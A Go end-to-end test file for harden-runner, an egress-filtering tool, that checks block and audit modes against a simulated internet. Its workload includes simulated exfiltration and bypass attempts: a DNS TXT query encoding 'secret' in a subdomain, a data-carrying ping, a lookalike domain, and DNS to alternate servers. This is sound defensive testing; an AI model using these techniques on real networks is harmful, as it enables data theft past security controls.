@@ -1,0 +1,564 @@
+package main
+
+// End-to-end tests of `harden-runner run` in the test topology of DESIGN.md:
+// the real binary runs in a "runner" namespace, real clients run as an
+// unprivileged user under it, and each check reads what the fake internet's
+// dnsmasq and servers logged.
+
+import (
+	"bufio"
+	"encoding/binary"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net"
+	"net/netip"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/miekg/dns"
+
+	"github.com/harden-runner/harden-runner/internal/testnet"
+)
+
+func TestMain(m *testing.M) {
+	testnet.MaybeServe()
+	if mode := os.Getenv("HR_GOCLIENT"); mode != "" {
+		os.Exit(goClient(mode, os.Args[1:]))
+	}
+	os.Exit(m.Run())
+}
+
+// goClient is a client written with Go's net package, run as its own
+// process under the agent: "dial host:port" or "pipeline server name..."
+// (several DNS queries in one TCP write).
+func goClient(mode string, args []string) int {
+	switch mode {
+	case "dial":
+		c, err := net.DialTimeout("tcp", args[0], 5*time.Second)
+		if err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			return 1
+		}
+		c.Close()
+		return 0
+	case "pipeline":
+		c, err := net.DialTimeout("tcp", args[0], 5*time.Second)
+		if err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			return 1
+		}
+		defer c.Close()
+		var buf []byte
+		for i, name := range args[1:] {
+			m := new(dns.Msg)
+			m.SetQuestion(dns.Fqdn(name), dns.TypeA)
+			m.Id = uint16(i + 1)
+			b, _ := m.Pack()
+			buf = binary.BigEndian.AppendUint16(buf, uint16(len(b)))
+			buf = append(buf, b...)
+		}
+		if _, err := c.Write(buf); err != nil { // one write: one segment
+			fmt.Fprintln(os.Stderr, err)
+			return 1
+		}
+		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
+		r := bufio.NewReader(c)
+		for range args[1:] {
+			var l uint16
+			if err := binary.Read(r, binary.BigEndian, &l); err != nil {
+				fmt.Fprintln(os.Stderr, "read:", err)
+				return 1
+			}
+			b := make([]byte, l)
+			if _, err := io.ReadFull(r, b); err != nil {
+				return 1
+			}
+			m := new(dns.Msg)
+			if err := m.Unpack(b); err != nil {
+				return 1
+			}
+			fmt.Printf("%d %s\n", m.Id, dns.RcodeToString[m.Rcode])
+		}
+		return 0
+	}
+	return 2
+}
+
+var (
+	buildOnce sync.Once
+	binPath   string
+	buildErr  error
+)
+
+// buildBinary builds harden-runner once per test run.
+func buildBinary(t *testing.T) string {
+	t.Helper()
+	buildOnce.Do(func() {
+		dir, err := os.MkdirTemp("", "hr-bin")
+		if err != nil {
+			buildErr = err
+			return
+		}
+		binPath = filepath.Join(dir, "harden-runner")
+		out, err := exec.Command("go", "build", "-o", binPath, ".").CombinedOutput()
+		if err != nil {
+			buildErr = fmt.Errorf("go build: %v\n%s", err, out)
+		}
+	})
+	if buildErr != nil {
+		t.Fatal(buildErr)
+	}
+	return binPath
+}
+
+// world is the fake internet every end-to-end test uses.
+type world struct {
+	*testnet.Net
+	bin  string
+	self string // this test binary, for Go clients
+	tmp  string // world-writable scratch for the unprivileged workload
+}
+
+func newWorld(t *testing.T) *world {
+	testnet.Skip(t, "dnsmasq", "curl", "dig", "socat", "setpriv")
+	n := testnet.New(t)
+	h4, h6 := testnet.Host4, testnet.Host6
+	n.StartDNS(map[string][]netip.Addr{
+		"allowed.test":        {h4(10), h6(10)},
+		"blocked.test":        {h4(11), h6(11)},
+		"api.wild.test":       {h4(12)},
+		"deep.a.wild.test":    {h4(13)},
+		"wild.test":           {h4(14)},
+		"evilwild.test":       {h4(15)},
+		"pipe-blocked.test":   {h4(16)},
+		"c2VjcmV0.exfil.test": {h4(17)},
+		"audit-only.test":     {h4(18)},
+	})
+	self, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	n.StartServers(self, "tls::443", "tls::8443", "tls::853", "tcp::22",
+		"udp:0.0.0.0:9999", "udp:198.18.1.53:53", "tcp:198.18.1.53:53",
+		"udp:[2001:db8:1::53]:53", "udp:0.0.0.0:5353", "icmp")
+	tmp, err := os.MkdirTemp("", "hr-e2e")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(tmp) })
+	if err := os.Chmod(tmp, 0o777); err != nil {
+		t.Fatal(err)
+	}
+	// The workload (nobody) must be able to run this test binary.
+	selfCopy := filepath.Join(tmp, "goclient")
+	if out, err := exec.Command("cp", self, selfCopy).CombinedOutput(); err != nil {
+		t.Fatalf("cp: %v %s", err, out)
+	}
+	return &world{Net: n, bin: buildBinary(t), self: selfCopy, tmp: tmp}
+}
+
+// workload is the shell script the unprivileged user runs: each line is a
+// case "name: command"; the script records each command's exit status.
+type workload []struct{ name, cmd string }
+
+func (w *world) script(wl workload) (path, results string) {
+	results = filepath.Join(w.tmp, "results")
+	var b strings.Builder
+	b.WriteString("#!/bin/sh\n")
+	for _, c := range wl {
+		fmt.Fprintf(&b, "( %s ) >>%s/out 2>&1 </dev/null; echo \"%s $?\" >>%s\n", c.cmd, w.tmp, c.name, results)
+	}
+	path = filepath.Join(w.tmp, "workload.sh")
+	if err := os.WriteFile(path, []byte(b.String()), 0o755); err != nil {
+		panic(err)
+	}
+	return path, results
+}
+
+// run runs the workload under `harden-runner run` as nobody and returns
+// the per-case exit statuses and the report.
+func (w *world) run(t *testing.T, flags []string, wl workload) (map[string]int, *reportFile) {
+	t.Helper()
+	script, results := w.script(wl)
+	reportDir := filepath.Join(w.tmp, "report-"+t.Name()[strings.LastIndex(t.Name(), "/")+1:])
+	args := append([]string{w.bin, "run", "--report-dir", reportDir, "--workspace", w.tmp, "--disable-file-monitoring"}, flags...)
+	args = append(args, "--", "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--", "/bin/sh", script)
+	cmd := w.In(w.Runner, args...)
+	out, err := cmd.CombinedOutput()
+	if err != nil {
+		t.Fatalf("harden-runner run: %v\n%s", err, out)
+	}
+	t.Logf("harden-runner output:\n%s", out)
+	if b, err := os.ReadFile(filepath.Join(w.tmp, "out")); err == nil {
+		t.Logf("workload output:\n%s", b)
+	}
+	status := map[string]int{}
+	b, err := os.ReadFile(results)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
+		var name string
+		var code int
+		if _, err := fmt.Sscanf(line, "%s %d", &name, &code); err == nil {
+			status[name] = code
+		}
+	}
+	return status, readReport(t, reportDir)
+}
+
+// reportFile is the part of report.json the tests read.
+type reportFile struct {
+	Schema string `json:"schema"`
+	Egress []struct {
+		Domain   string `json:"domain"`
+		IP       string `json:"ip"`
+		Port     int    `json:"port"`
+		Protocol string `json:"protocol"`
+		Verdict  string `json:"verdict"`
+		Process  struct {
+			PID     int    `json:"pid"`
+			Exe     string `json:"exe"`
+			Cmdline string `json:"cmdline"`
+		} `json:"process"`
+	} `json:"egress"`
+	DNS []struct {
+		Name    string `json:"name"`
+		Type    string `json:"type"`
+		Verdict string `json:"verdict"`
+		Process struct {
+			Exe string `json:"exe"`
+		} `json:"process"`
+	} `json:"dns"`
+	Suggested struct {
+		AllowedEndpoints []string `json:"allowed_endpoints"`
+	} `json:"suggested_policy"`
+}
+
+func readReport(t *testing.T, dir string) *reportFile {
+	t.Helper()
+	b, err := os.ReadFile(filepath.Join(dir, "report.json"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var r reportFile
+	if err := json.Unmarshal(b, &r); err != nil {
+		t.Fatalf("report.json: %v", err)
+	}
+	if _, err := os.Stat(filepath.Join(dir, "summary.md")); err != nil {
+		t.Errorf("no summary.md: %v", err)
+	}
+	return &r
+}
+
+const allowFlags = "allowed.test:443 *.wild.test:443"
+
+// cases shared by block and audit mode: each name is checked in both.
+func commonWorkload(w *world, pipelinedRcode string) workload {
+	return workload{
+		{"allowed-v4", "curl -sk -4 --max-time 5 https://allowed.test/"},
+		{"allowed-v6", "curl -sk -6 --max-time 5 https://allowed.test/"},
+		{"wildcard-sub", "curl -sk --max-time 5 https://api.wild.test/"},
+		{"wildcard-deep", "curl -sk --max-time 5 https://deep.a.wild.test/"},
+		{"wildcard-apex", "curl -sk --max-time 5 https://wild.test/"},
+		{"lookalike", "curl -sk --max-time 5 https://evilwild.test/"},
+		{"blocked-name", "getent hosts blocked.test"},
+		{"exfil-txt", "dig +short +time=2 +tries=1 TXT c2VjcmV0.exfil.test | grep -q ."},
+		{"direct-ip-v4", "curl -sk --max-time 5 https://198.18.1.11/"},
+		{"direct-ip-v6", "curl -sk --max-time 5 'https://[2001:db8:1::b]/'"},
+		{"allowed-other-port", "curl -sk --max-time 5 https://allowed.test:8443/"},
+		{"udp-blocked", "echo ping | socat -T1 - UDP:198.18.1.11:9999 | grep -q ping"},
+		{"tcp-blocked", "socat -T1 - TCP:198.18.1.11:22,connect-timeout=5 | grep -q hello"},
+		{"dns-other-server-udp", "dig +time=2 +tries=1 @198.18.1.53 allowed.test | grep -q 198.18.1.10"},
+		{"dns-other-server-tcp", "dig +tcp +time=2 +tries=1 @198.18.1.53 allowed.test | grep -q 198.18.1.10"},
+		{"dns-other-server-v6", "dig +time=2 +tries=1 @2001:db8:1::53 allowed.test | grep -q 198.18.1.10"},
+		// The fake server echoes the query back, which dig rejects: judged by the server's log only.
+		{"dns-nonstandard-port", "dig +time=2 +tries=1 -p 5353 @198.18.1.53 wild.test; true"},
+		{"dns-pipelined", "HR_GOCLIENT=pipeline " + w.self + " 198.18.0.2:53 allowed.test pipe-blocked.test | grep -q '2 " + pipelinedRcode + "'"},
+		{"dot", "echo | openssl s_client -connect 198.18.1.53:853 2>/dev/null | grep -q CONNECTED"},
+		{"icmp", "ping -c1 -W2 -p 6869646465 198.18.1.11"},
+		{"uppercase-dot", "getent ahostsv4 ALLOWED.TEST. | grep -q 198.18.1.10"},
+		{"go-client", "HR_GOCLIENT=dial " + w.self + " audit-only.test:443"},
+	}
+}
+
+func TestRunBlockMode(t *testing.T) {
+	w := newWorld(t)
+	// The pipelined client sends two queries in one TCP segment to the real
+	// server's address; ours answers both, refusing the second name.
+	wl := commonWorkload(w, "NXDOMAIN")
+	status, rep := w.run(t, []string{"--egress-policy", "block", "--allowed-endpoints", allowFlags, "--upstream", "198.18.0.2"}, wl)
+	h4, h6 := testnet.Host4, testnet.Host6
+	want := map[string]bool{ // case -> should succeed
+		"allowed-v4": true, "allowed-v6": true, "wildcard-sub": true, "wildcard-deep": true,
+		"dns-other-server-udp": true, "dns-other-server-tcp": true, "dns-other-server-v6": true,
+		"dns-pipelined": true, "uppercase-dot": true, "dns-nonstandard-port": true,
+	}
+	for _, c := range wl {
+		if got := status[c.name] == 0; got != want[c.name] {
+			t.Errorf("%s: exit status %d, want success=%v", c.name, status[c.name], want[c.name])
+		}
+	}
+	// What reached the fake internet.
+	reached := []struct {
+		name  string
+		proto string
+		addr  netip.Addr
+		port  uint16
+		want  bool
+	}{
+		{"allowed-v4", "tcp", h4(10), 443, true},
+		{"allowed-v6", "tcp", h6(10), 443, true},
+		{"wildcard-sub", "tcp", h4(12), 443, true},
+		{"wildcard-deep", "tcp", h4(13), 443, true},
+		{"wildcard-apex", "tcp", h4(14), 0, false},
+		{"lookalike", "tcp", h4(15), 0, false},
+		{"direct-ip-v4", "tcp", h4(11), 443, false},
+		{"direct-ip-v6", "tcp", h6(11), 443, false},
+		{"allowed-other-port", "tcp", h4(10), 8443, false},
+		{"udp-blocked", "udp", h4(11), 9999, false},
+		{"tcp-blocked", "tcp", h4(11), 22, false},
+		{"dns-other-server-udp", "udp", h4(0x53), 53, false},
+		{"dns-other-server-tcp", "tcp", h4(0x53), 53, false},
+		{"dns-other-server-v6", "udp", h6(0x53), 53, false},
+		{"dns-nonstandard-port", "udp", h4(0x53), 5353, false},
+		{"dot", "tcp", h4(0x53), 853, false},
+		{"go-client", "tcp", h4(18), 443, false},
+	}
+	for _, r := range reached {
+		if got := len(w.HitsTo(r.proto, r.addr, r.port)) > 0; got != r.want {
+			t.Errorf("%s: server at %s:%d/%s reached=%v, want %v", r.name, r.addr, r.port, r.proto, got, r.want)
+		}
+	}
+	for _, h := range w.Hits() {
+		if h.Proto == "icmp" {
+			t.Errorf("icmp: echo request reached the internet: %+v", h)
+		}
+	}
+	// Blocked names never reach the upstream DNS server.
+	for _, name := range []string{"wild.test", "evilwild.test", "blocked.test", "c2VjcmV0.exfil.test", "pipe-blocked.test", "audit-only.test"} {
+		if w.DNSAsked(name) {
+			t.Errorf("blocked name %s reached the upstream DNS server", name)
+		}
+	}
+	for _, name := range []string{"allowed.test", "api.wild.test", "deep.a.wild.test"} {
+		if !w.DNSAsked(name) {
+			t.Errorf("allowed name %s never reached the upstream DNS server", name)
+		}
+	}
+	// The report names what was blocked, and by whom.
+	if rep.Schema != "harden-runner/report/v1" {
+		t.Errorf("schema %q", rep.Schema)
+	}
+	assertFlow(t, rep, "198.18.1.11", 443, "blocked", "curl")
+	assertFlow(t, rep, "198.18.1.10", 443, "allowed", "curl")
+	assertDNS(t, rep, "blocked.test", "blocked", "getent")
+}
+
+func TestRunAuditMode(t *testing.T) {
+	w := newWorld(t)
+	wl := commonWorkload(w, "NOERROR")
+	status, rep := w.run(t, []string{"--egress-policy", "audit", "--allowed-endpoints", allowFlags, "--upstream", "198.18.0.2"}, wl)
+	// In audit mode everything goes through, DNS to other servers still
+	// lands at our resolver (recorded) rather than the server asked.
+	for _, c := range wl {
+		if status[c.name] != 0 && c.name != "exfil-txt" {
+			t.Errorf("%s: exit status %d, want 0 in audit mode", c.name, status[c.name])
+		}
+	}
+	for _, r := range []struct {
+		proto string
+		addr  netip.Addr
+		port  uint16
+	}{{"tcp", testnet.Host4(11), 443}, {"tcp", testnet.Host4(14), 443}, {"udp", testnet.Host4(11), 9999}, {"tcp", testnet.Host4(11), 22}, {"tcp", testnet.Host4(53), 853}} {
+		if len(w.HitsTo(r.proto, r.addr, r.port)) == 0 {
+			t.Errorf("audit mode: %s:%d/%s not reached", r.addr, r.port, r.proto)
+		}
+	}
+	icmp := 0
+	for _, h := range w.Hits() {
+		if h.Proto == "icmp" && strings.HasPrefix(h.Remote, "198.18.0.1") {
+			icmp++
+		}
+	}
+	if icmp == 0 || status["icmp"] != 0 {
+		t.Errorf("audit mode: ping did not reach the internet (status %d, hits %d)", status["icmp"], icmp)
+	}
+	if len(w.HitsTo("udp", testnet.Host4(53), 53)) != 0 {
+		t.Errorf("audit mode: DNS to 198.18.1.53 bypassed the resolver")
+	}
+	for _, name := range []string{"blocked.test", "wild.test", "c2VjcmV0.exfil.test"} {
+		if !w.DNSAsked(name) {
+			t.Errorf("audit mode: %s not forwarded", name)
+		}
+	}
+	assertFlow(t, rep, "198.18.1.11", 443, "audit", "curl")
+	assertFlow(t, rep, "198.18.1.11", 9999, "audit", "socat")
+	assertFlow(t, rep, "198.18.1.11", 22, "audit", "socat")
+	assertFlow(t, rep, "198.18.1.53", 853, "audit", "openssl")
+	assertFlow(t, rep, "198.18.1.18", 443, "audit", "goclient")
+	assertFlow(t, rep, "198.18.1.10", 443, "allowed", "curl")
+	assertDNS(t, rep, "blocked.test", "audit", "getent")
+	assertDNS(t, rep, "c2vjcmv0.exfil.test", "audit", "dig")
+	for _, want := range []string{"blocked.test:443", "wild.test:443", "evilwild.test:443", "allowed.test:8443"} {
+		found := false
+		for _, e := range rep.Suggested.AllowedEndpoints {
+			found = found || e == want
+		}
+		if !found {
+			t.Errorf("suggested policy %v lacks %s", rep.Suggested.AllowedEndpoints, want)
+		}
+	}
+}
+
+func assertFlow(t *testing.T, rep *reportFile, ip string, port int, verdict, exe string) {
+	t.Helper()
+	for _, e := range rep.Egress {
+		if e.IP == ip && e.Port == port {
+			if e.Verdict != verdict {
+				t.Errorf("report: %s:%d verdict %s, want %s", ip, port, e.Verdict, verdict)
+			}
+			if filepath.Base(e.Process.Exe) != exe {
+				t.Errorf("report: %s:%d process %q (%q), want %s", ip, port, e.Process.Exe, e.Process.Cmdline, exe)
+			}
+			return
+		}
+	}
+	t.Errorf("report: no egress entry for %s:%d", ip, port)
+}
+
+func assertDNS(t *testing.T, rep *reportFile, name, verdict, exe string) {
+	t.Helper()
+	for _, d := range rep.DNS {
+		if d.Name == name {
+			if d.Verdict != verdict {
+				t.Errorf("report: dns %s verdict %s, want %s", name, d.Verdict, verdict)
+			}
+			if filepath.Base(d.Process.Exe) != exe {
+				t.Errorf("report: dns %s process %q, want %s", name, d.Process.Exe, exe)
+			}
+			return
+		}
+	}
+	t.Errorf("report: no dns entry for %s", name)
+}
+
+// tableExists reports whether our nftables table is in the runner namespace.
+func tableExists(w *world) bool {
+	out, _ := w.In(w.Runner, "nft", "list", "tables").CombinedOutput()
+	return strings.Contains(string(out), "harden_runner")
+}
+
+func waitTable(t *testing.T, w *world, want bool) {
+	t.Helper()
+	deadline := time.Now().Add(10 * time.Second)
+	for tableExists(w) != want {
+		if time.Now().After(deadline) {
+			t.Fatalf("table present=%v never became %v", !want, want)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+}
+
+func TestRunFailsClosedOnSIGKILL(t *testing.T) {
+	w := newWorld(t)
+	cmd := w.In(w.Runner, w.bin, "run", "--egress-policy", "block", "--allowed-endpoints", allowFlags,
+		"--upstream", "198.18.0.2", "--report-dir", filepath.Join(w.tmp, "r"), "--disable-file-monitoring", "--", "sleep", "60")
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	waitTable(t, w, true)
+	// ip netns exec execs the binary in place, so this is harden-runner's pid.
+	if err := cmd.Process.Signal(syscall.SIGKILL); err != nil {
+		t.Fatal(err)
+	}
+	_ = cmd.Wait()
+	if !tableExists(w) {
+		t.Fatal("table gone after SIGKILL: failed open")
+	}
+	if err := w.In(w.Runner, "curl", "-sk", "--max-time", "3", "https://198.18.1.11/").Run(); err == nil {
+		t.Error("blocked address reachable after the agent was killed")
+	}
+	if err := w.In(w.Runner, "getent", "hosts", "blocked.test").Run(); err == nil {
+		t.Error("blocked name resolves after the agent was killed")
+	}
+	if len(w.HitsTo("tcp", testnet.Host4(11), 443)) != 0 || w.DNSAsked("blocked.test") {
+		t.Error("traffic reached the internet after the agent was killed")
+	}
+}
+
+func TestRunRemovesTableOnSignal(t *testing.T) {
+	w := newWorld(t)
+	for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT} {
+		t.Run(sig.String(), func(t *testing.T) {
+			dir := filepath.Join(w.tmp, "sig-"+sig.String())
+			cmd := w.In(w.Runner, w.bin, "run", "--egress-policy", "block", "--upstream", "198.18.0.2",
+				"--report-dir", dir, "--disable-file-monitoring", "--", "sleep", "60")
+			if err := cmd.Start(); err != nil {
+				t.Fatal(err)
+			}
+			waitTable(t, w, true)
+			start := time.Now()
+			if err := cmd.Process.Signal(sig); err != nil {
+				t.Fatal(err)
+			}
+			err := cmd.Wait()
+			if tableExists(w) {
+				t.Fatal("table still installed after run exited")
+			}
+			if time.Since(start) > 5*time.Second {
+				t.Errorf("run took %v to stop", time.Since(start))
+			}
+			if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() == 0 {
+				t.Errorf("run exit: %v, want the killed command's non-zero status", err)
+			}
+			if _, err := os.Stat(filepath.Join(dir, "report.json")); err != nil {
+				t.Errorf("no report after signal: %v", err)
+			}
+		})
+	}
+}
+
+func TestRunRejectsBadInput(t *testing.T) {
+	w := newWorld(t)
+	for _, c := range []struct {
+		flags []string
+		want  string
+	}{
+		{[]string{"--egress-policy", "blok"}, `"blok"`},
+		{[]string{"--allowed-endpoints", "github.com:99999"}, "github.com:99999"},
+		{[]string{"--allowed-endpoints", "git*hub.com:443"}, "git*hub.com:443"},
+		{[]string{"--upstream", "not-an-ip"}, "not-an-ip"},
+	} {
+		args := append([]string{w.bin, "run", "--report-dir", filepath.Join(w.tmp, "bad")}, c.flags...)
+		out, err := w.In(w.Runner, append(args, "--", "true")...).CombinedOutput()
+		if err == nil {
+			t.Errorf("%v: accepted", c.flags)
+		}
+		if !strings.Contains(string(out), c.want) {
+			t.Errorf("%v: error %q does not name %s", c.flags, out, c.want)
+		}
+		if tableExists(w) {
+			t.Fatalf("%v: table left behind after bad input", c.flags)
+		}
+	}
+}
+
+func TestRunExitStatus(t *testing.T) {
+	w := newWorld(t)
+	err := w.In(w.Runner, w.bin, "run", "--upstream", "198.18.0.2", "--report-dir", filepath.Join(w.tmp, "x"),
+		"--disable-file-monitoring", "--", "sh", "-c", "exit 7").Run()
+	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 7 {
+		t.Fatalf("exit: %v, want status 7", err)
+	}
+	if tableExists(w) {
+		t.Fatal("table left behind")
+	}
+}
